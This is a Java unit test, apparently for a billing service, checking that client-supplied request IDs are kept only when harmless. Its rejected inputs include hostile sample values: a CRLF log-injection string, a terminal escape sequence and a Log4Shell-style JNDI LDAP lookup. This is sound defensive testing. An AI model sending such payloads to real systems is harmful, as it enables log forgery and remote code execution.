package io.ucmbilling.telemetry;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RequestIdTest {
    private static final String TRACE = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01";

    @ParameterizedTest
    @ValueSource(strings = {"a", "4bf9-2f35_77.b3", "0123456789012345678901234567890123456789012345678901234567890123"})
    void isTheClientsOwnIfThatIsHarmless(String given) {
        assertThat(RequestId.of(given, TRACE).text()).isEqualTo(given);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "a b",
                "a\r\nINFO: all is well",
                "\u001b[2J",
                "${jndi:ldap://192.0.2.1/a}",
                "ä",
                "01234567890123456789012345678901234567890123456789012345678901234"
            })
    void isAnotherIfTheClientsIsNot(String given) {
        assertThat(RequestId.of(given, TRACE).text()).isEqualTo("4bf92f3577b34da6a3ce929d0e0e4736");
        assertThat(RequestId.of(given, given).text()).matches("[0-9a-f]{16}");
    }

    @Test
    void isNewEachTime() {
        assertThat(RequestId.of(null, null)).isNotEqualTo(RequestId.of(null, null));
    }
}
